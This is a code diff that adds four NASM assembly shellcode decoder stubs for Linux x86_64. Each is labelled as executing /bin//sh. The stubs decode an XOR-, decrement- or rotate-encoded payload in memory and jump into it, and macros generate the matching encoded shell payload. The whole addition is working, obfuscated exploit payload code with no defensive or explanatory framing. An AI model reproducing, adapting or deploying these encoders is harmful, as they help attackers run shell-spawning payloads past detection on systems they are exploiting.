@@ -230,3 +230,70 @@ payload:
 	dd (quad + key) & 0xffffffff
 %assign j j + 1
 %endrep
+
+;= wide_rip_self 64 | linux x86_64 | execute /bin//sh
+start:	lea rbx, [rel start]
+	add rbx, payload - start
+	mov cl, LENGTH64
+next:	xor byte [rbx], 0x77
+	inc rbx
+	dec cl
+	jnz next
+payload: ENCODE64 c ^ 0x77
+
+;= wide_pointer_in_rax 64 | linux x86_64 | execute /bin//sh
+start:	push rax
+	pop rbx
+	add rbx, payload - start
+	push LENGTH64
+	pop rcx
+next:	dec byte [rbx + rcx - 1]
+	loop next
+	jmp rbx
+payload: ENCODE64 c + 1
+
+;= wide_call_back 64 | linux x86_64 | execute /bin//sh
+	jmp near down
+up:	mov rsi, [rsp]
+	push LENGTH64
+	pop rcx
+next:	xor byte [rsi + rcx - 1], 0x77
+	loop next
+	ret
+	times 140 nop
+down:	call up
+	ENCODE64 c ^ 0x77
+
+;= wide_stages 64 | linux x86_64 | execute /bin//sh
+	lea rdi, [rel payload]
+	push 2
+	pop rbx
+s:	push LENGTH64 / 8
+	pop rcx
+	mov rsi, rdi
+n:	lodsq
+	rol rax, 7
+	mov rdx, 0x1020304050607080
+	xor rax, rdx
+	mov [rsi - 8], rax
+	loop n
+	dec ebx
+	jnz s
+	jmp rdi
+payload:
+%assign j 0
+%rep LENGTH64 / 8
+%assign q 0
+%assign part 8
+%rep 8
+%substr letter PAYLOAD64 j * 8 + part
+%assign q (q << 8) | letter
+%assign part part - 1
+%endrep
+%rep 2
+%assign q q ^ 0x1020304050607080
+%assign q (q << 57) | (q >> 7)
+%endrep
+	dq q
+%assign j j + 1
+%endrep
